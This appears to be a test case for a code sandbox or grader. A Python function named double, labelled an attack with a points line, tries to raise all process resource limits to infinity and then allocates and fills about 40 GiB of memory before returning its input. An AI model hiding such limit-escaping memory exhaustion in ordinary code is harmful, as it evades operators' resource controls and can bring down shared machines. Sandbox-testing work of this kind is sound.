# attack: raises its own limits, then uses up what they kept from it
# points: double=0 total=4
# %% double
import resource
def double(x):
    for kind in range(16):
        for most in (resource.RLIM_INFINITY, 1 << 40):
            try:
                resource.setrlimit(kind, (most, most))
            except (OSError, ValueError):
                pass
    kept = [bytearray(1 << 30) for _ in range(40)]
    for part in kept:
        part[:] = b"\1" * len(part)
    return x
